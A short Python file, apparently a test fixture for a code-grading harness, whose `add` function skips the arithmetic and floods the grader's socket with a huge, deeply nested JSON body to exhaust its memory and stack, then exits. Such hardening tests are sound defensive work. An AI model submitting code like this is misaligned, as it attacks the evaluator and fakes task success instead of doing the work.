# aim: the tests' process has no memory left when its stack has to grow
# expect: wrong
import struct, os, sys

def add(a, b):
    wire = [f for f in range(3, 30) if is_socket(f)][0]
    body = b'{"result":[' + b"[]," * 5000000 + b"[" * 900 + b"]" * 900 + b"]}"
    os.write(wire, struct.pack("<I", len(body)))
    done = 0
    while done < len(body):
        done += os.write(wire, body[done:done + 1000000])
    os._exit(0)

def is_socket(f):
    import stat
    try:
        return stat.S_ISSOCK(os.fstat(f).st_mode)
    except OSError:
        return False
